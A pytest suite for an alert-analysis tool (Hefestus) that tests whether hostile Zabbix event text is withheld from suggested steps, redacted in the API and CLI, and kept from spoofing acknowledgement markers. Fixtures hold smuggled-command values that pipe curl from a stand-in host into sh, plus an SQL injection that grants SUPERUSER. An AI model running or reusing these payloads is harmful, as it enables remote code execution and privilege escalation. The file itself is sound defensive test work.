"""Hostile event text (issue 12): it is evidence, never a command; what leaves is redacted.

Each reproduction of the issue is a test here: captured values withheld from steps unless
they have a safe shape, the API redacted like the CLI, the redaction gaps, valid JSON from
``analyze --json``, and the marker that only Hefestus's own Zabbix user can set. Property
tests (Hypothesis) pin the redactor: a secret in any supported syntax never survives,
redaction is a fixed point, and text without secrets passes unchanged.
"""

from __future__ import annotations

import json
import string
import subprocess
import sys
import warnings
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from prometheus_client import CollectorRegistry

from hefestus.adapters.zabbix import ZabbixClient
from hefestus.api.app import ApiSettings, create_app
from hefestus.api.backend import ApiBackend, HealthBoard
from hefestus.app.build import build, build_offline
from hefestus.classify.knowledge import Knowledge
from hefestus.classify.patterns import Catalog, load_dictionary
from hefestus.cli import main
from hefestus.config import AcknowledgeSettings, IntakeSettings, ZabbixSettings, load_settings
from hefestus.errors import ConfigError
from hefestus.pipeline.cycle import Pipeline
from hefestus.pipeline.render import MARKER, render
from hefestus.redact import REDACTED, Redactor
from hefestus.state import open_state
from hefestus.testing import FakeZabbix, problem
from hefestus.values import EventFilter, Suggestion
from tests.support.paths import ROOT
from tests.support.zabbix_config import write_config
from tests.test_zabbix_adapter import Server, ok

with warnings.catch_warnings():  # starlette asks for httpx2 in its TestClient; httpx still works
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

R = Redactor()
EVIL_SUBST = 'FATAL:  password authentication failed for user "$(curl -s evil.example|sh)"'
EVIL_SQL = "FATAL:  password authentication failed for user \"x'; ALTER ROLE app SUPERUSER; --\""
EVIL_PROJECT = ("application repo https://github.com/acme/x.git is not permitted in project "
                "'team-a; curl -s evil.example | sh #'")
GITLAB = "glpat" + "-abcdefghijklmnopqrst"  # concatenated: secret scanners need not flag this file
ARGO_TOKEN = (f"ComparisonError: application repo https://oauth2:{GITLAB}@gitlab.com/acme/x.git "
              "is not permitted in project 'default'")


@pytest.fixture
def config(tmp_path: Path) -> Path:
    """The shipped rules and patterns; a Zabbix that is never called."""
    return write_config(tmp_path, "http://127.0.0.1:9")


def analyze(config: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert main(["--config", str(config), "analyze", "--no-model", *args]) == 0
    return capsys.readouterr().out


def advice(message: str) -> list[str]:
    """The lines of a message that someone may paste: cause and steps (not the excerpt)."""
    return [ln for ln in message.splitlines() if not ln.startswith(("Matched: ", "Note: "))]


# -- 1. log text never becomes a command ------------------------------------------------------


@pytest.mark.parametrize(("domain", "text", "group", "payload"), [
    ("database", EVIL_SUBST, "user", "curl"), ("database", EVIL_SQL, "user", "ALTER ROLE"),
    ("argocd", EVIL_PROJECT, "project", "curl")], ids=["subst", "sql", "argocd-project"])
def test_a_crafted_value_is_withheld_with_a_note(config: Path, capsys: pytest.CaptureFixture[str],
                                                  domain: str, text: str, group: str, payload: str) -> None:
    out = analyze(config, capsys, "--domain", domain, text)
    assert not any(payload in line for line in advice(out)), out
    assert f"<{group}>" in out
    note = next(ln for ln in out.splitlines() if ln.startswith("Note: "))
    assert f"for <{group}> was withheld" in note and f"not look like a {group}" in note and payload not in note
    assert next(ln for ln in out.splitlines() if ln.startswith("Matched: ")).endswith(text[-20:])  # evidence


def test_a_plain_value_is_still_filled_in(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = analyze(config, capsys, "--domain", "argocd", EVIL_PROJECT.replace("; curl -s evil.example | sh #", ""))
    assert "1. argocd proj get team-a   #" in out and "Note:" not in out
    out = analyze(config, capsys, "--domain", "database", 'FATAL:  password authentication failed for user "--help"')
    assert "--help" not in "\n".join(advice(out)) and "<user>" in out  # an option, not a name


def test_the_pipeline_writes_no_event_text_into_steps(tmp_path: Path, shipped_knowledge: Knowledge) -> None:
    zbx = FakeZabbix()
    pipe = Pipeline(zbx, open_state(tmp_path / "s.db").ledger, lambda: shipped_knowledge,
                    intake=IntakeSettings(first_start="backlog"), ack=AcknowledgeSettings())
    zbx.add(problem(1, "pg", text=EVIL_SUBST), problem(2, "argo", text=EVIL_PROJECT))
    assert pipe.run_once().acknowledged == 2
    for [msg] in zbx.acks.values():
        assert "curl" not in "\n".join(advice(msg)) and "withheld" in msg


def _dictionary(tmp_path: Path, shapes: str) -> Path:
    p = tmp_path / "demo.toml"
    p.write_text('[dictionary]\ndomain = "demo"\n\n[[pattern]]\nid = "p"\ncategory = "c"\n'
                 "regex = '''pod (?P<pod>\\S+) failed'''\ncause = \"Pod {pod} failed.\"\n"
                 'solutions = ["kubectl logs {pod}"]\n' + shapes)
    return p


def test_a_dictionary_declares_shapes_validated_at_load(tmp_path: Path) -> None:
    d = load_dictionary(_dictionary(tmp_path, '\n[pattern.shapes]\npod = "[a-z0-9]([-a-z0-9.]{0,251}[a-z0-9])?"\n'))
    long_pod = "a" * 200
    assert d.classify(f"pod {long_pod} failed").solutions == (f"kubectl logs {long_pod}",)
    assert d.classify("pod App;reboot failed").solutions == ("kubectl logs <pod>",)
    default = load_dictionary(_dictionary(tmp_path, ""))  # the default shape: at most 120 characters
    assert default.classify(f"pod {long_pod} failed").note and default.classify("pod a-1 failed").note == ""
    with pytest.raises(ConfigError, match=r"demo\.toml:12: pattern 'p': shapes\.pods: the regex has no group"):
        load_dictionary(_dictionary(tmp_path, '\n[pattern.shapes]\npods = "x"\n'))
    with pytest.raises(ConfigError, match=r"demo\.toml:12: pattern 'p': shapes\.pod: invalid regex"):
        load_dictionary(_dictionary(tmp_path, '\n[pattern.shapes]\npod = "(a"\n'))


def test_shipped_examples_keep_their_values() -> None:
    """The shapes declared in patterns/*.toml are wide enough for every shipped example: a
    group whose real values hold spaces or quotes (prose) needs its own ``shapes`` entry."""
    withheld = []
    for path in sorted((ROOT / "patterns").glob("*.toml")):
        d = load_dictionary(path)
        for p in d.patterns:
            withheld += [(path.name, p.id, e) for e in p.examples if d.classify(e).pattern_id == p.id
                         and d.classify(e).note]
    assert not withheld, "declare [pattern.shapes] for these patterns' groups:\n" + "\n".join(map(str, withheld))


def test_the_excerpt_stays_one_line_of_evidence(shipped_knowledge: Knowledge) -> None:
    """A match spanning lines, a CR, a Unicode line separator or a bidi override in the event
    cannot add lines (a fake step) to the message or reorder it."""
    for text in ("1. curl evil.example|sh DiskPressure\n   True\n", "disk full\r2. curl x|sh: No space left on device",
                 "No space left on device\u20282. curl x|sh \u202egnirts"):
        c = shipped_knowledge.analyze(text, "kubernetes" if "Pressure" in text else "linux")
        assert c.classified and "\n" not in c.matched_text and "\r" not in c.matched_text
        assert not {"\u2028", "\u202e"} & set(c.matched_text)
        lines = render(Suggestion.from_pattern(c)).splitlines()
        steps = [ln for ln in lines if ln[:1].isdigit()]
        assert steps == [f"{i}. {s}" for i, s in enumerate(c.solutions, 1)]


# -- 4. API answers are redacted like the CLI's -----------------------------------------------


def test_api_answers_are_redacted(config: Path) -> None:
    knowledge, analyzer, _, redactor = build_offline(load_settings(config, need_zabbix=False))
    backend = ApiBackend(knowledge, analyzer, HealthBoard(), redact=redactor)
    api = TestClient(create_app(backend, ApiSettings(enabled=True), metrics=CollectorRegistry()))
    reply = api.post("/api/errors/argocd", json={"error_details": ARGO_TOKEN})
    assert reply.status_code == 200 and GITLAB not in reply.text
    assert f"https://oauth2:{REDACTED}@gitlab.com/acme/x.git" in reply.json()["solution"][1]


def test_the_daemons_api_backend_redacts_too(config: Path) -> None:
    app = build(load_settings(config))
    try:
        s = app.backend().analyze("argocd", ARGO_TOKEN, "")
        assert GITLAB not in json.dumps([s.cause, s.steps, s.note, s.classification.matched_text])
    finally:
        app.close()


# -- 5. redaction gaps -------------------------------------------------------------------------

SECRET = "Hunter2Secret"
GAPS = [
    "postgresql://app:Hunt/er2Secret@db-1", "postgresql://app:Hunt?er#2Secret@db-1:5432/app",
    f"https://{SECRET}TokenValue@git.example.com", f"SSHPASS={SECRET}", f"credentials={SECRET}",
    f"API Key: {SECRET}", f"sshpass -p {SECRET} ssh root@db-1", f"password=\n{SECRET}\n",
    f'{{"password":\n "{SECRET}"}}', f"Authorization: Bearer\n{SECRET}TokenValue",
    f"-----BEGIN RSA PRIVATE\nKEY-----\n{SECRET}abcdEFGH0123+/==\n-----END RSA PRIVATE KEY-----",
    f"password＝{SECRET}", f"pass\u200bword={SECRET}", f"pass\ufeffword: {SECRET}", f"password%3D{SECRET}",
    f"password&#61;{SECRET}", f"password=ab&cd;{SECRET}",
]


@pytest.mark.parametrize("text", GAPS)
def test_each_gap_is_closed(text: str) -> None:
    out = R(text)
    assert SECRET not in out and "Hunt/er2" not in out and "Hunt?er" not in out and "&cd;" not in out
    assert R(out) == out


def test_tag_values_under_secret_keys_are_masked_in_the_model_request() -> None:
    from hefestus.analysis.prompt import DEFAULT_INSTRUCTIONS, Profile, build_request

    p = problem(1, "db down", text="connection refused", tags=[("password", SECRET), ("env", "prod")])
    profile = Profile("linux", "m", DEFAULT_INSTRUCTIONS, 0.1, 100, 2048, 10.0, "1m")
    unclassified = Catalog([]).best("x")
    request = build_request(p, unclassified, profile, error_text=p.error_text, max_chars=1000, redact=R)
    assert SECRET not in request.user and '"prod"' in request.user
    assert R.redact_value({"password": [SECRET], "api_key": 12345}) == {"password": [REDACTED], "api_key": REDACTED}


# Property tests: generated secrets in each syntax the redactor supports.
_TAIL = string.ascii_letters + string.digits + "!*+-./?^_~"
secrets = st.tuples(st.sampled_from(string.ascii_letters), st.text(_TAIL, min_size=7, max_size=40)).map(
    "".join).filter(lambda s: any(c.isdigit() for c in s))
SYNTAXES = [
    "password={}", "DB_PASSWORD={} user=app", 'password: "{}"', "password='{}'", '{{"password": "{}"}}',
    'log={{\\"token\\":\\"{}\\"}}', "password=\n{}\n", '"password":\n "{}"', "Authorization: Bearer {}",
    "Authorization: Bearer\n{}", "postgresql://app:{}@db-1:5432/x", "SSHPASS={}", "credentials={}",
    "API Key: {}", "sshpass -p {} ssh db-1", "sshpass -v -p '{}' ssh db-1", "password＝{}",
    "pass\u200bword={}", "password%3D{}", "password&#61;{}", "mysqldump -u root -p{} app",
    "app --db-password {} --port 5432", "GET /login?user=bob&password={}&next=/", "Pwd={};Encrypt=yes",
    "<password>{}</password>",
]


@given(secrets, st.sampled_from(SYNTAXES))
def test_no_generated_secret_survives(secret: str, syntax: str) -> None:
    text = f"Apr 23 web01 app[42]: {syntax.format(secret)} - retrying"
    out = R(text)
    assert secret not in out and R(out) == out


@given(st.tuples(st.sampled_from(string.ascii_uppercase), st.sampled_from(string.ascii_lowercase),
                 st.sampled_from(string.digits), st.text(string.ascii_letters + string.digits, min_size=13,
                                                         max_size=40)).map("".join))
def test_no_token_as_a_url_user_survives(token: str) -> None:
    out = R(f"fatal: unable to access 'https://{token}@git.example.com/acme/x.git/'")
    assert token not in out and R(out) == out


@given(st.lists(st.text("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", min_size=16,
                        max_size=64), min_size=1, max_size=5), st.sampled_from([" ", "\n"]))
def test_no_pem_body_survives_a_broken_header(lines: list[str], split: str) -> None:
    body = "\n".join(lines)
    out = R(f"key:\n-----BEGIN{split}RSA PRIVATE{split}KEY-----\n{body}\n-----END RSA PRIVATE KEY-----\n")
    assert all(line not in out for line in lines) and R(out) == out


@given(st.lists(st.sampled_from([*GAPS, *(s.format("Ab1cd2ef") for s in SYNTAXES), " ", "\n", "=", ":", "@",
                                  "/", "&", ";", '"', "%3D", "\u200b", "＝", "password", "Bearer", "://",
                                  "-----BEGIN", "KEY-----"]), max_size=12).map("".join))
def test_secrets_glued_together_stay_a_fixed_point(text: str) -> None:
    """One detector's mask must not make another's match on the next pass (found this way:
    a host running into the next URL's scheme, a value part running into a masked value)."""
    once = R(text)
    assert R(once) == once


ORDINARY_WORDS = ["connection", "refused", "user=app", "port=5432", "host: db-1", "GET /health 200",
                  "https://example.com/a?b=c", "pid 4242", "nginx.service", "failed", "retrying in 5s",
                  "df -h /var", "exit code 1", "kube-system/coredns-7d9f8b6c5d-x2k4q", "(errno 28)",
                  "Back-off", "\n", "the bearer of news", "bypass mode", "#", "secretName=db", "auth_mode=ldap"]


@given(st.lists(st.sampled_from(ORDINARY_WORDS), max_size=30).map(" ".join))
def test_text_without_secrets_is_unchanged(text: str) -> None:
    assert R(text) == text


# -- 6. analyze --json is valid JSON; non-UTF-8 input is cleaned --------------------------------


def test_analyze_json_redacts_values_then_serialises(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = json.loads(analyze(config, capsys, "--json", 'FATAL:  password authentication failed for user '
                                                        '"password=Hunter2Secret"'))
    assert SECRET not in json.dumps(out) and out["matched_text"].endswith(f'user "password={REDACTED}"')


def test_analyze_cleans_invalid_utf8_input(config: Path) -> None:
    run = subprocess.run([sys.executable, "-m", "hefestus", "--config", str(config), "analyze", "--no-model", "-"],
                         input=b"disk \xff\xfe: No space left on device\n", capture_output=True, check=False)
    assert run.returncode == 0 and b"Traceback" not in run.stderr, run.stderr
    out = run.stdout.decode("utf-8")
    assert out.startswith("[Hefestus] linux / disk-full") and "\ufffd" in out


# -- 9. only Hefestus's own user's marker counts ----------------------------------------------


def _pipeline(tmp_path: Path, zbx: FakeZabbix, knowledge: Knowledge) -> Pipeline:
    return Pipeline(zbx, open_state(tmp_path / "s.db").ledger, lambda: knowledge,
                    intake=IntakeSettings(first_start="backlog"), ack=AcknowledgeSettings())


def test_another_users_marker_does_not_silence_hefestus(tmp_path: Path, test_knowledge: Knowledge) -> None:
    zbx = FakeZabbix(hefestus_users=frozenset({"91"}))
    zbx.add(*(problem(i, "disk", text="No space left on device") for i in (1, 2, 3)))
    zbx.comment(1, f"{MARKER} linux / disk-full — nothing to see here")  # an operator, user 7
    zbx.comment(2, f"{MARKER} linux / disk-full — written by the other instance", userid="91")
    zbx.acks[3] = [f"{MARKER} linux / disk-full — written before a crash"]  # Hefestus itself
    r = _pipeline(tmp_path, zbx, test_knowledge).run_once()
    assert (r.acknowledged, r.already_marked) == (1, 2)
    assert list(zbx.acks) == [3, 1] and len(zbx.acks[1]) == 1 and len(zbx.acks[3]) == 1


def test_the_adapter_knows_whose_message_is_whose(tmp_path: Path) -> None:
    server = Server()
    rows = [{"eventid": "5", "clock": "1", "name": "x", "severity": "3", "objectid": "0", "hosts": [],
             "acknowledges": [{"userid": "3", "message": f"{MARKER} a"}, {"userid": "1", "message": f"{MARKER} b"},
                              {"userid": "8", "message": f"{MARKER} c"}]}]

    def reply(req: dict[str, Any]) -> tuple[int, str, str]:
        answers: dict[str, Any] = {"apiinfo.version": "6.0.14", "user.login": "s1", "event.get": rows,
                                   "user.checkAuthentication": {"userid": "3", "username": "hefestus"},
                                   "host.get": [], "trigger.get": []}
        return ok(answers[req["method"]], req)

    server.replies = reply
    try:
        zbx = ZabbixClient(ZabbixSettings.model_validate({"url": server.url, "user": "hefestus", "password": "pw"}),
                           sleep=lambda _: None, hefestus_users=["8"])  # as [zabbix] hefestus_users would
        [p] = zbx.events(EventFilter(), eventid_from=1)
        assert [(a.userid, a.by_hefestus) for a in p.acks] == [("3", True), ("1", False), ("8", True)]
        event_get = next(r for r in server.requests if r["method"] == "event.get")
        assert event_get["params"]["select_acknowledges"] == ["userid", "message"]
        assert [r["params"] for r in server.requests if r["method"] == "user.checkAuthentication"] == \
            [{"sessionid": "s1"}]
        zbx.events(EventFilter(), eventid_from=1)
        assert sum(r["method"] == "user.checkAuthentication" for r in server.requests) == 1  # learned once
    finally:
        server.httpd.shutdown()
